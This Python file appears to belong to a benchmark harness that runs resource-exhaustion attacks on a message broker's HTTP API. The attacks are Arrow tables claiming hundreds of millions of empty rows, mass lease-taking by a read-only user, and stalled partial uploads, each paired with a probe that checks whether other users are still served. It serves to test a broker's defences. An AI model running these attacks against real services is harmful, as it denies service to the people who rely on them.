"""Attacks over HTTP: Arrow tables, leases, uploads."""

from __future__ import annotations

import contextlib
import http.client
import io
import json
import socket
from typing import Any

from bench.attacks.attack import Ground, Steps, attack
from bench.attacks.peer import exchange_declare, publish, queue_bind, queue_declare
from bench.attacks.target import ATTACKER_ADDRESS, LEPORID

from leporid.load.amqp import connect

NULL_ROWS = 500_000_000
NULL_COLUMNS = ("routing_key", "exchange")
ZERO_WIDTH_ROWS = 8_400_000
LEASES = 1_000
# An attacker does not wait for ever, either.
ANSWER_SECONDS = 20.0
UPLOADS = 4
UPLOAD_BYTES = 1_000_000
PUBLISH = "/api/publish/%2F/"


def null_columns(rows: int) -> bytes:
    """A table whose rows take no bytes: bodies without a byte, and columns of nothing."""
    import pyarrow as pa

    columns = {"body": _zero_width(rows)} | dict.fromkeys(NULL_COLUMNS, pa.nulls(rows))
    return _encoded(pa.record_batch(list(columns.values()), names=list(columns)))


def zero_width(rows: int) -> bytes:
    """A table whose rows take no bytes: bodies without a byte."""
    import pyarrow as pa

    return _encoded(pa.record_batch([_zero_width(rows)], names=["body"]))


def _zero_width(rows: int) -> Any:
    import pyarrow as pa

    return pa.Array.from_buffers(pa.binary(0), rows, [None, pa.py_buffer(b"")])


def _encoded(batch: Any) -> bytes:
    import pyarrow as pa

    sink = io.BytesIO()
    with pa.ipc.new_stream(sink, batch.schema) as writer:
        writer.write_batch(batch)
    return sink.getvalue()


def _publish_table(ground: Ground, exchange: str, data: bytes) -> None:
    try:
        status, said = ground.ask("POST", PUBLISH + exchange, body=data, seconds=ANSWER_SECONDS)
    except (OSError, http.client.HTTPException) as error:
        ground.note(f"no answer to a table of {len(data)} bytes ({error!r})")
    else:
        ground.note(f"a table of {len(data)} bytes: {status} {said[:120].decode()}")


@attack("arrow-null-columns", brokers=(LEPORID,))
def arrow_null_columns(ground: Ground) -> Steps:
    """A table of a few hundred bytes says that it has 500 million rows."""
    data = null_columns(ground.count(NULL_ROWS))
    yield
    _publish_table(ground, "amq.fanout", data)


@attack("arrow-zero-width", brokers=(LEPORID,))
def arrow_zero_width(ground: Ground) -> Steps:
    """A table of a few hundred bytes publishes 8.4 million messages without a byte."""
    data = zero_width(ground.count(ZERO_WIDTH_ROWS))
    with ground.peer() as peer:
        peer.push(exchange_declare("x", "fanout"))
        peer.push(queue_declare("q", flags="e") + queue_bind("q", "x"))
        peer.settle()
        yield
        _publish_table(ground, "x", data)


def take_lease(ground: Ground) -> None:
    """Somebody else takes a lease for a moment."""
    path = "/api/queues/%2F/work/leases?max=1&ttl_ms=100&answer=json"
    status, said = ground.ask("POST", path, user="other")
    if status != 201 or json.loads(said)["lease"] is None:
        raise ConnectionError(f"no lease: {status} {said[:100].decode()}")


@attack("leases", brokers=(LEPORID,), probe=take_lease)
def leases(ground: Ground) -> Steps:
    """A user who may only read takes 1,000 leases; others want one."""
    ground.need_users()
    with ground.peer() as peer:
        peer.push(queue_declare("work") + publish("", "work", b"one") * 3 * LEASES)
        peer.settle()
    yield
    host, port = ground.http()
    headers = {"Authorization": ground.target.authorization("reader")}
    path = "/api/queues/%2F/work/leases?max=1&answer=json"
    with contextlib.closing(
        http.client.HTTPConnection(host, port, 60.0, source_address=(ATTACKER_ADDRESS, 0))
    ) as connection:
        for _ in range(ground.count(LEASES)):
            connection.request("POST", path, headers=headers)
            answer = connection.getresponse()
            said = answer.read()
            if answer.status != 201:
                ground.note(f"{answer.status} {said[:120].decode()}")
                break
    ground.hold()


def publish_table(ground: Ground) -> None:
    """Somebody else publishes a small table."""
    import pyarrow as pa

    batch = pa.record_batch([pa.array([b"one"])], names=["body"])
    status, said = ground.ask("POST", PUBLISH + "amq.fanout", user="other", body=_encoded(batch))
    if status != 200:
        raise ConnectionError(f"not published: {status} {said[:100].decode()}")


@attack("idle-uploads", brokers=(LEPORID,), probe=publish_table)
def idle_uploads(ground: Ground) -> Steps:
    """Four tables are begun and not sent on; others publish theirs."""
    address = ground.http()
    request = (
        f"POST {PUBLISH}amq.fanout HTTP/1.1\r\nHost: localhost\r\n"
        f"Authorization: {ground.target.authorization('hostile')}\r\n"
        f"Content-Length: {UPLOAD_BYTES}\r\n\r\n"
    ).encode()
    with contextlib.ExitStack() as stack:
        yield
        for _ in range(UPLOADS):
            sock: socket.socket = connect(address, ATTACKER_ADDRESS)
            stack.callback(sock.close)
            sock.sendall(request + bytes(1000))
        ground.hold()
